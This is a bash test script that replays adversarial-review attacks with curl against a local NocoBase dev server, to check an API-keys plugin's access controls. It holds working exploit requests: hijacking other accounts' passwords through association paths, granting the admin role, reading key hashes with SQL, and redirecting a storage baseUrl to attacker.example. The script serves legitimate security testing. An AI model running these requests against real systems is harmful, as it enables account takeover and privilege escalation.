#!/usr/bin/env bash
# The attacks of issue 9 and of two adversarial reviews, over HTTP, against `npm start`'s app
# (fresh storage, admin@nocobase.com / admin123 on port 13000). Prints each request and its answer.
# Needs curl and python3. Usage: npm start (in another shell), then bash src/dev/attack-http.sh
TMP=$(mktemp)
B=http://localhost:13000/api
j() { python3 -c "import sys,json;d=json.load(sys.stdin);print($1)"; }
ADMIN=$(curl -s -X POST "$B/auth:signIn" -H 'X-Authenticator: basic' -H 'Content-Type: application/json' -d '{"account":"admin@nocobase.com","password":"admin123"}' | j 'd["data"]["token"]')
A=(-H "Authorization: Bearer $ADMIN" -H 'Content-Type: application/json')
SNIP='pm.@keyward/plugin-api-keys.configuration'
curl -s "${A[@]}" -X POST "$B/roles:create" -d "{\"name\":\"keymgr\",\"title\":\"Key managers\",\"snippets\":[\"$SNIP\"]}" >/dev/null
curl -s "${A[@]}" -X POST "$B/users:create" -d '{"username":"mallory","email":"mallory@example.com","password":"mallory123","roles":[{"name":"keymgr"}]}' >/dev/null
MAL=$(curl -s -X POST "$B/auth:signIn" -H 'X-Authenticator: basic' -H 'Content-Type: application/json' -d '{"account":"mallory","password":"mallory123"}' | j 'd["data"]["token"]')
M=(-H "Authorization: Bearer $MAL" -H 'X-Role: keymgr' -H 'Content-Type: application/json')
ADMKEY=$(curl -s "${A[@]}" -X POST "$B/apiKeys:create" -d '{"name":"admin script","role":{"name":"admin"},"expiresIn":"7d"}')
ADMKEY_ID=$(echo "$ADMKEY" | j 'd["data"]["id"]'); ADMTOKEN=$(echo "$ADMKEY" | j 'd["data"]["token"]')
MK=$(curl -s "${M[@]}" -X POST "$B/apiKeys:create" -d '{"name":"mallory script","role":{"name":"keymgr"},"expiresIn":"7d"}')
MK_ID=$(echo "$MK" | j 'd["data"]["id"]'); K=$(echo "$MK" | j 'd["data"]["token"]')
KH=(-H "Authorization: Bearer $K" -H 'Content-Type: application/json')
show() { printf '%-72s %s\n' "$1" "$(echo "$2" | head -c 150)"; }
r() { curl -s -o "$TMP" -w '%{http_code}' "$@"; echo -n " "; head -c 110 "$TMP"; }
echo "admin key id=$ADMKEY_ID, mallory key id=$MK_ID"
echo "== 1. association paths (mallory session, then her key)"
show "GET apiKeys/$ADMKEY_ID/createdBy:get (session)" "$(r "${M[@]}" "$B/apiKeys/$ADMKEY_ID/createdBy:get")"
show "GET apiKeys/$ADMKEY_ID/createdBy:get (key)" "$(r "${KH[@]}" "$B/apiKeys/$ADMKEY_ID/createdBy:get")"
show "POST apiKeys/$ADMKEY_ID/createdBy:update password" "$(r "${M[@]}" -X POST "$B/apiKeys/$ADMKEY_ID/createdBy:update?filterByTk=1" -d '{"password":"owned123"}')"
show "POST apiKeys/$MK_ID/createdBy:update roles+admin" "$(r "${M[@]}" -X POST "$B/apiKeys/$MK_ID/createdBy:update?filterByTk=2" -d '{"roles":["keymgr","admin"]}')"
show "POST apiKeys/$MK_ID/role:update snippets" "$(r "${M[@]}" -X POST "$B/apiKeys/$MK_ID/role:update?filterByTk=keymgr" -d '{"snippets":["pm.*"]}')"
show "POST apiKeys/$ADMKEY_ID/role:destroy" "$(r "${M[@]}" -X POST "$B/apiKeys/$ADMKEY_ID/role:destroy?filterByTk=admin")"
show "admin still signs in with admin123" "$(r -X POST "$B/auth:signIn" -H 'X-Authenticator: basic' -H 'Content-Type: application/json' -d '{"account":"admin@nocobase.com","password":"admin123"}')"
echo "== 2. account actions with a key"
show "users:updateProfile" "$(r "${KH[@]}" -X POST "$B/users:updateProfile" -d '{"email":"evil@example.com"}')"
show "auth:changePassword (right old password)" "$(r "${KH[@]}" -X POST "$B/auth:changePassword" -d '{"oldPassword":"mallory123","newPassword":"x1234567","confirmPassword":"x1234567"}')"
show "users:setDefaultRole __union__" "$(r "${KH[@]}" -X POST "$B/users:setDefaultRole" -d '{"roleName":"__union__"}')"
show "users:updateLang" "$(r "${KH[@]}" -X POST "$B/users:updateLang" -d '{"appLang":"zh-CN"}')"
show "auth:signOut" "$(r "${KH[@]}" -X POST "$B/auth:signOut")"
show "auth:syncCookies" "$(r "${KH[@]}" -X POST "$B/auth:syncCookies")"
show "verifiers:listByUser" "$(r "${KH[@]}" "$B/verifiers:listByUser")"
show "customRequests:send" "$(r "${KH[@]}" -X POST "$B/customRequests:send?filterByTk=x")"
show "attachments:createTemporaryURL" "$(r "${KH[@]}" -X POST "$B/attachments:createTemporaryURL?filterByTk=1")"
show "auth:check (kept)" "$(r "${KH[@]}" "$B/auth:check")"
show "collections:list (kept)" "$(r "${KH[@]}" "$B/collections:list")"
show "admin key: users:update own password" "$(r -H "Authorization: Bearer $ADMTOKEN" -H 'Content-Type: application/json' -X POST "$B/users:update?filterByTk=1" -d '{"password":"owned123"}')"
show "admin key: users:update mallory nickname (configuration)" "$(r -H "Authorization: Bearer $ADMTOKEN" -H 'Content-Type: application/json' -X POST "$B/users:update?filterByTk=2" -d '{"nickname":"M"}')"
echo "== 3. IdP"
for p in idpOAuth/interaction/abc idpOAuth/device/verification:approve idpOAuth/token .well-known/openid-configuration; do
  show "POST $p (key, X-Authenticator keyward)" "$(r "${KH[@]}" -H 'X-Authenticator: keyward' -X POST "$B/$p" -d '{}')"
done
echo "== 4. list query"
show "fields=id,role.users.email" "$(r "${M[@]}" "$B/apiKeys:list?fields=id,role.users.email")"
show "filter hash startsWith" "$(r "${M[@]}" -G "$B/apiKeys:list" --data-urlencode 'filter={"hash":{"$startsWith":"a"}}')"
show "filter createdBy.password" "$(r "${M[@]}" -G "$B/apiKeys:list" --data-urlencode 'filter={"createdBy.password":{"$ne":null}}')"
show "filter not JSON" "$(r "${M[@]}" "$B/apiKeys:list?filter=%7Bnope")"
show "filterByTk 19 digits" "$(r "${M[@]}" "$B/apiKeys:get?filterByTk=9999999999999999999")"
echo "== 5. charts:queryData on apiKeys"
Q='{"collection":"apiKeys","mode":"builder","variableResolution":"legacy-schema","dimensions":[{"field":["hash"]},{"field":["name"]}]}'
show "mallory session, hash+name" "$(r "${M[@]}" -X POST "$B/charts:queryData" -d "$Q")"
show "admin session, hash+name" "$(r "${A[@]}" -X POST "$B/charts:queryData" -d "$Q")"
show "admin session, name only" "$(r "${A[@]}" -X POST "$B/charts:queryData" -d '{"collection":"apiKeys","mode":"builder","variableResolution":"legacy-schema","dimensions":[{"field":["name"]}]}')"
echo "== 6. GET deletes?"
show "GET apiKeys:destroy" "$(r "${M[@]}" "$B/apiKeys:destroy?filterByTk=$MK_ID")"
show "key still listed" "$(r "${M[@]}" "$B/apiKeys:list?fields=id,name")"
echo "== 8. user deleted -> keys deleted"
curl -s "${A[@]}" -X POST "$B/users:destroy?filterByTk=2" >/dev/null
show "mallory key after her user is deleted" "$(r "${KH[@]}" "$B/auth:check")"
echo "== review: admin-role key"
AK=(-H "Authorization: Bearer $ADMTOKEN" -H 'Content-Type: application/json')
show "admin key: flowSql:run SELECT hash" "$(r "${AK[@]}" -X POST "$B/flowSql:run" -d '{"sql":"SELECT hash FROM \"keywardApiKeys\""}')"
show "admin key: users:update?filterByTk=01 password" "$(r "${AK[@]}" -X POST "$B/users:update?filterByTk=01" -d '{"password":"owned123"}')"
show "admin key: roles/member/users:add [\"01\"]" "$(r "${AK[@]}" -X POST "$B/roles/member/users:add" -d '["01"]')"
show "admin key: roles:create with users" "$(r "${AK[@]}" -X POST "$B/roles:create" -d '{"name":"mine","snippets":["pm.*"],"users":[1]}')"
show "admin key: pm:enable api-keys" "$(r "${AK[@]}" -X POST "$B/pm:enable?filterByTk=api-keys")"
show "admin key: users:list (kept)" "$(r "${AK[@]}" "$B/users:list?fields=id")"
show "admin session: users field -> apiKeys" "$(r "${A[@]}" -X POST "$B/collections/users/fields:create" -d '{"name":"keys","type":"hasMany","target":"apiKeys","foreignKey":"createdById","interface":"o2m"}')"
show "?token encoded" "$(r "$B/auth:check?%74oken=%6Beyward_x")"
show "admin still signs in with admin123" "$(r -X POST "$B/auth:signIn" -H 'X-Authenticator: basic' -H 'Content-Type: application/json' -d '{"account":"admin@nocobase.com","password":"admin123"}')"
echo "== second review: nested association writes"
# Fresh minimal role and user with a key (mallory was deleted above).
curl -s "${A[@]}" -X POST "$B/roles:create" -d "{\"name\":\"minimal\",\"snippets\":[\"$SNIP\"],\"strategy\":{\"actions\":[]}}" >/dev/null
curl -s "${A[@]}" -X POST "$B/users:create" -d '{"username":"eve","email":"eve@example.com","password":"eve12345","roles":[{"name":"minimal"}]}' >/dev/null
EVE=$(curl -s -X POST "$B/auth:signIn" -H 'X-Authenticator: basic' -H 'Content-Type: application/json' -d '{"account":"eve","password":"eve12345"}' | j 'd["data"]["token"]')
EVEUSER=$(curl -s -H "Authorization: Bearer $EVE" "$B/auth:check" | j 'd["data"]["id"]')
EK=$(curl -s -H "Authorization: Bearer $EVE" -H 'X-Role: minimal' -H 'Content-Type: application/json' -X POST "$B/apiKeys:create" -d '{"name":"eve script","role":{"name":"minimal"},"expiresIn":"1d"}' | j 'd["data"]["token"]')
EH=(-H "Authorization: Bearer $EK" -H 'Content-Type: application/json')
show "attachments:create + createdBy password" "$(r "${EH[@]}" -X POST "$B/attachments:create?updateAssociationValues[]=createdBy" -d "{\"title\":\"x\",\"filename\":\"x.txt\",\"extname\":\".txt\",\"path\":\"\",\"createdBy\":{\"id\":$EVEUSER,\"password\":\"pwned-by-key\"}}")"
show "attachments:create + updatedBy.roles admin" "$(r "${EH[@]}" -X POST "$B/attachments:create?updateAssociationValues[]=updatedBy&updateAssociationValues[]=updatedBy.roles" -d "{\"title\":\"y\",\"filename\":\"y.txt\",\"extname\":\".txt\",\"path\":\"\",\"updatedBy\":{\"id\":$EVEUSER,\"roles\":[\"minimal\",\"admin\"]}}")"
show "attachments:create + storage baseUrl" "$(r "${EH[@]}" -X POST "$B/attachments:create?updateAssociationValues[]=storage" -d '{"title":"z","filename":"z.txt","extname":".txt","path":"","storage":{"id":1,"baseUrl":"https://attacker.example"}}')"
show "eve still signs in with her password" "$(r -X POST "$B/auth:signIn" -H 'X-Authenticator: basic' -H 'Content-Type: application/json' -d '{"account":"eve","password":"eve12345"}')"
show "admin key: dbViews:query keywardApiKeys" "$(r "${AK[@]}" "$B/dbViews:query?filterByTk=keywardApiKeys")"
show "upload a file with the minimal key (kept)" "$(curl -s -o "$TMP" -w '%{http_code}' -H "Authorization: Bearer $EK" -F file=@/etc/hostname "$B/attachments:create"; echo -n ' '; head -c 100 "$TMP")"
